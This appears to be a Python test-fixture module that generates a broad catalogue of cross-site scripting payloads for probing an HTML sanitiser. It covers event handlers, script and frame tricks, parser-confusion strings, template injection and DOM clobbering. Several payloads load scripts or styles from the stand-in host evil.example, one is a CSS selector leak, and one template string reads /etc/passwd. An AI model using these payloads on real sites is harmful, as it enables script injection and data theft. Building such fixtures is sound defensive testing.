"""HTML that tries to run a script, by kinds; each text calls ``alert``.

What can run is put together from the parts that browsers and sanitisers disagree on:
which element, which attribute, which letters between them, which parser is in charge.
"""

from collections.abc import Iterator
from itertools import product

RUN = "alert(1)"
_ON_THEIR_OWN = {
    "img src=x": ("error", "loadstart", "loadend"),
    "img src=data:image/gif;base64,R0lGODlhAQABAAAAACwAAAAAAQABAAA=": ("load",),
    "svg": ("load", "focusin"),
    "body": ("load", "pageshow", "hashchange", "message", "resize", "focus", "unload"),
    "video src=x": ("error", "loadstart", "canplay", "emptied"),
    "audio src=x autoplay": ("error", "play", "loadedmetadata"),
    "video><source src=x": ("error",),
    "details open": ("toggle",),
    "input autofocus": ("focus", "blur", "input", "invalid", "select", "search"),
    "a href=x": ("click", "auxclick", "contextmenu", "mousedown", "dragstart"),
    "div tabindex=0": ("pointerover", "pointerrawupdate", "mouseenter", "keydown"),
    "p style=animation:x": ("animationstart", "animationend", "transitionend"),
    "div popover id=q": ("beforetoggle", "toggle"),
    "div contenteditable": ("beforeinput", "paste", "copy", "cut", "selectstart"),
    "dialog open": ("close", "cancel"),
    "marquee": ("start", "bounce", "finish"),
    "select autofocus": ("change", "focus"),
    "textarea autofocus": ("focus", "scroll"),
    "iframe": ("load",),
    "object data=x": ("error", "load"),
    "track src=x": ("error", "cuechange"),
    "div style=overflow:auto": ("scroll", "scrollend", "wheel", "touchstart"),
    "div style=content-visibility:auto": ("contentvisibilityautostatechange",),
    "table": ("click",),
    "li": ("click",),
    "code": ("mouseover",),
    "span": ("mouseover",),
    "h2": ("click",),
    "th": ("click",),
    "sup": ("click",),
    "ruby": ("click",),
    "x-y": ("click", "focus"),
}
_BETWEEN = ("/", "\t", "\n", "\x0c", "\r\n", "/ /", " x=/", ' "', " '", " \x00", "\x0b")
_BEFORE_EQUALS = ("", " ", "\n", "\x0c", "\x00", "\u00a0", "/")
_QUOTES = ('"', "'", "`", "")
_RAW = (
    *("style", "title", "textarea", "noscript", "xmp", "iframe", "noembed"),
    *("noframes", "plaintext", "script", "template", "select", "option", "svg"),
)
_FOREIGN = ("svg", "math")
_POINTS = (
    *("desc", "title", "foreignObject", "mtext", "mi", "ms", "annotation-xml"),
    *("annotation-xml encoding=text/html", "mglyph", "malignmark"),
)
_SCRIPT_ELEMENTS = (
    "<script>{run}</script>",
    "<ScRiPt>{run}</sCrIpT>",
    "<script\x0c>{run}</script\x0c>",
    "<script/x>{run}</script/x>",
    "<script>{run}",
    "<script type=module>{run}</script>",
    "<script type=text/javascript src=data:,{run}></script>",
    "<script src=//evil.example/x.js></script>",
    "<script async src=https:evil.example/x.js></script>",
    (
        '<script type=importmap>{{"imports":{{"a":"dat'
        'a:text/javascript,{run}"}}}}</script>'
    ),
    (
        '<script type=speculationrules>{{"prefetch":[{'
        '{"urls":["//evil.example/"]}}]}}</script>'
    ),
    "<script><!--{run}--></script>",
    "<script>//<![CDATA[\n{run}\n//]]></script>",
    "<<script>{run}//<</script>",
    "<scr<script>ipt>{run}</scr</script>ipt>",
    "<scr\x00ipt>{run}</script>",
    "<\x00script>{run}</script>",
    "<script>{run}</ script>",
    "\uff1cscript\uff1e{run}\uff1c/script\uff1e",
    "+ADw-script+AD4-{run}+ADw-/script+AD4-",
    "&lt;script&gt;{run}&lt;/script&gt;",
    "&#60;script>{run}&#60;/script>",
    "<p>a<script>{run}</script>b</p>",
    "<svg><script>{run}</script>",
    "<svg><script href=data:,{run} />",
    "<svg><script>&#97;lert(1)</script>",
    "<math><script>{run}</script>",
    "<table><script>{run}</script></table>",
    "<template><script>{run}</script></template>",
    "<div><template shadowrootmode=open><script>{run}</script></template></div>",
    "<div><template shadowrootmode=open><img src=x onerror={run}></template></div>",
)
_FRAMES = (
    "<iframe src=javascript:parent.{run}></iframe>",
    '<iframe srcdoc="<script>parent.{run}</script>"></iframe>',
    '<iframe srcdoc="&lt;script>parent.{run}&lt;/script>"></iframe>',
    "<iframe src='data:text/html,<script>parent.{run}</script>'></iframe>",
    "<iframe srcdoc=x onload={run} sandbox=allow-scripts></iframe>",
    "<object data=javascript:{run}></object>",
    "<object data='data:text/html,<script>{run}</script>'></object>",
    "<object type=text/html data=//evil.example/></object>",
    "<embed src=javascript:{run}>",
    "<embed src='data:image/svg+xml,<svg onload={run}>'>",
    "<frameset><frame src=javascript:{run}></frameset>",
    "<frameset onload={run}>",
    "<portal src=javascript:{run}></portal>",
    "<fencedframe src=//evil.example/></fencedframe>",
    "<applet code=javascript:{run}></applet>",
    "<base href=javascript:/a/><a href=#>x</a>",
    "<base href=//evil.example/><script src=x.js></script>",
    "<base target=_top><a href=//evil.example/>x</a>",
    '<meta http-equiv=refresh content="0;url=javascript:{run}">',
    '<meta http-equiv=refresh content="0;url=data:text/html,<script>{run}</script>">',
    "<meta http-equiv=refresh content='0;url=//evil.example/'>",
    (
        "<meta http-equiv=content-security-policy cont"
        'ent="default-src *"><script>{run}</script>'
    ),
    "<meta http-equiv=set-cookie content=a=b>",
    "<meta charset=utf-7>+ADw-script+AD4-{run}+ADw-/script+AD4-",
    "<link rel=import href=data:text/html,x>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<link rel=stylesheet href=javascript:{run}>",
    "<link rel=preload as=script href=//evil.example/x.js>",
    "<link rel=modulepreload href=//evil.example/x.js>",
    "<link rel=prefetch href=//evil.example/>",
    (
        "<link rel=dns-prefetch href=//evil.example/><"
        "link rel=preconnect href=//evil.example/>"
    ),
    "<link rel=manifest href=//evil.example/x.json>",
    "<link rel=icon href=//evil.example/x.ico>",
    "<form action=javascript:{run}><button>x</button></form>",
    "<form id=f></form><button form=f formaction=javascript:{run}>x</button>",
    "<form><input type=submit formaction=javascript:{run}></form>",
    "<form><input type=image src=x formaction=javascript:{run}></form>",
    "<isindex type=image src=1 onerror={run}>",
    "<button popovertarget=q>x</button><div id=q popover onbeforetoggle={run}>y</div>",
    "<button commandfor=q command=show-modal>x</button><dialog id=q ontoggle={run}>",
    "<map name=m><area shape=default href=javascript:{run}></map><img usemap=#m src=x>",
    "<a href=//evil.example/ ping=//evil.example/p>x</a>",
    "<keygen autofocus onfocus={run}>",
    "<style>@import '//evil.example/x.css';</style>",
    "<style>*{{background:url(//evil.example/x)}}</style>",
    "<style>@keyframes x{{}}</style><p style=animation-name:x onanimationstart={run}>",
    "<style>a[href^=x]{{background:url(//evil.example/leak)}}</style>",
    "<p style='background:url(//evil.example/x)'>x</p>",
    "<p style='width:expression({run})'>x</p>",
    "<p style='-moz-binding:url(//evil.example/x.xml)'>x</p>",
    "<p style='behavior:url(//evil.example/x.htc)'>x</p>",
    "<p style='position:fixed;inset:0;z-index:9'>over everything</p>",
    "<svg><animate onbegin={run} attributeName=x dur=1s>",
    "<svg><set onbegin={run} attributeName=x dur=1s>",
    "<svg><a><animate attributeName=href values=javascript:{run} /><text y=9>x</text>",
    "<svg><a xlink:href=javascript:{run}><text y=9>x</text></a>",
    "<svg><use href='data:image/svg+xml,<svg id=x><script>{run}</script></svg>#x'/>",
    "<svg><image href=x onerror={run} />",
    "<svg><feImage href=//evil.example/x />",
    "<svg><foreignObject><iframe src=javascript:{run}></iframe></foreignObject>",
    "<svg><discard onbegin={run}>",
    "<svg><style>@import '//evil.example/x';</style>",
    "<svg><handler type=text/javascript ev:event=load>{run}</handler>",
    "<math href=javascript:{run}>x</math>",
    (
        "<math><maction actiontype=statusline xlink:hr"
        "ef=javascript:{run}>x</maction></math>"
    ),
    "<math><semantics><annotation-xml encoding=text/html><img src=x onerror={run}>",
    "<xml><x src=x onerror={run}></xml>",
    "<?xml-stylesheet href=javascript:{run}?>",
    "<!DOCTYPE x [<!ENTITY y '<script>{run}</script>'>]>&y;",
    "<![CDATA[<img src=x onerror={run}>]]>",
    "<!--><img src=x onerror={run}>-->",
    "<!---><img src=x onerror={run}>-->",
    "<!-- --!><img src=x onerror={run}> -->",
    "<!--[if IE]><script>{run}</script><![endif]-->",
    "<!-- `<img src=x onerror={run}>` -->",
    "<!x><img src=x onerror={run}>",
    "</p/><img src=x onerror={run}>",
    "</ <img src=x onerror={run}>>",
    "<%<img src=x onerror={run}>%>",
    "<a href='x><img src=x onerror={run}>'>y</a>",
    "<a title='</a><img src=x onerror={run}>'>y</a>",
    "<img alt='\"><img src=x onerror={run}>' src=x>",
    "<image src=x href=x onerror={run}>",
    "<img srcset='x 1x, javascript:{run} 2x' src=x>",
    "<picture><source srcset=x onerror={run}><img onerror={run} src=x></picture>",
    "<video poster=javascript:{run}></video>",
    "<bgsound src=javascript:{run}>",
    "<table background=javascript:{run}><tr><td background=javascript:{run}>x</table>",
    "<blockquote cite=javascript:{run}>x</blockquote>",
)
_OF_THE_THEME = (
    '<pre class="mermaid">graph TD; a["<img src=x onerror={run}>"]</pre>',
    '<pre class="mermaid">graph TD; a-->b; click a "javascript:{run}"</pre>',
    '<pre class="mermaid">%%{{init: {{"securityLevel":"loose"}}}}%%\ngraph TD;a</pre>',
    "<pre data-mermaid class=mermaid onclick={run}>x</pre>",
    (
        '<code class="js-render-math" data-math-style='
        '"display">\\href{{javascript:{run}}}x</code>'
    ),
    '<div data-live data-copy="<img src=x onerror={run}>">x</div>',
    '<script data-live data-none="<img src=x onerror={run}>"></script>',
    (
        "<div class=search role=search><input name=q v"
        'alue="<img src=x onerror={run}>"></div>'
    ),
    '<a class=anchor href="javascript:{run}">x</a>',
    '<a data-wikilink href="javascript:{run}">x</a>',
    '<a data-original-href="javascript:{run}" href=x>x</a>',
    '<div id=siteContent class=results data-preview="javascript:{run}">x</div>',
    "<button class=copy type=button onclick={run}>Copy</button>",
    "<div class=preview-bar data-edit=javascript:{run}>x</div>",
    (
        "{{{{ ''.__class__.__mro__ }}}} {{% include '/"
        "etc/passwd' %}}<img src=x onerror={run}>"
    ),
    "{{{{constructor.constructor('{run}')()}}}} <x ng-app ng-csp ng-focus={run}>",
    (
        "<div v-html='{run}' x-init='{run}' hx-on:load"
        "='{run}' data-bind='click: {run}'>x</div>"
    ),
)
CLOBBERED = (
    *("body", "head", "cookie", "forms", "links", "scripts", "images", "location"),
    *("documentElement", "currentScript", "getElementById", "querySelector"),
    *("addEventListener", "createElement", "defaultView", "children", "attributes"),
    *("classList", "dataset", "style", "innerHTML", "parentNode", "firstChild"),
    *("siteContent", "siteTheme", "siteNav", "search", "results", "mermaid", "q"),
    *("wikisync_search", "wikisync", "alert", "self", "top", "parent", "name"),
    *("localStorage", "matchMedia", "fetch", "__proto__", "constructor", "toString"),
)
"""Names of properties that a script of the page may ask for."""


def hostile_html() -> Iterator[str]:
    """Each kind once."""
    for element, events in _ON_THEIR_OWN.items():
        for event in events:
            yield f"<{element} on{event}={RUN}>x"
    for between, quote in product(_BETWEEN, _QUOTES[:2]):
        yield f"<img{between}src={quote}x{quote}{between}onerror={quote}{RUN}{quote}>"
    for before, quote in product(_BEFORE_EQUALS, _QUOTES):
        yield f"<img src=x onerror{before}={before}{quote}{RUN}{quote}>"
    for text in (*_SCRIPT_ELEMENTS, *_FRAMES, *_OF_THE_THEME):
        yield text.format(run=RUN)
    yield from _of_two_parsers()


def _of_two_parsers() -> Iterator[str]:
    """What is text to one parser and an element to the next."""
    bad = f"<img src=x onerror={RUN}>"
    for raw in _RAW:
        yield f"<{raw}><p title='</{raw}>{bad}'></{raw}>"
        yield f"<{raw}><!--</{raw}>{bad}-->"
    for foreign, raw in product(_FOREIGN, ("style", "title", "xmp", "noscript")):
        yield f"<{foreign}></p><{raw}><a id='</{raw}>{bad}'>"
        yield f"<form><{foreign}><mtext></form><form><mglyph><{raw}></math>{bad}"
    for foreign, point in product(_FOREIGN, _POINTS):
        yield f"<{foreign}><{point}><style><!--</style>{bad}--></style>"
        yield f"<{foreign}><{point}><table><mglyph><style><![CDATA[</style>{bad}]]>"
    for depth in (200, 512, 600):
        yield "<div>" * depth + "<table><svg><style><b title='</style>" + bad + "'>"
        yield "<b>" * depth + "<p>" * 8 + bad


def clobbering() -> Iterator[str]:
    """Elements that take the place of what a script asks for."""
    for name in CLOBBERED:
        yield (
            f"<a id={name} name={name} href=tel:1>x</a><img name={name} src=x>"
            f"<form id={name} name={name}><input id={name} name=attributes></form>"
            f"<div id={name} class={name}>y</div><a id={name} href=mailto:x>z</a>"
        )
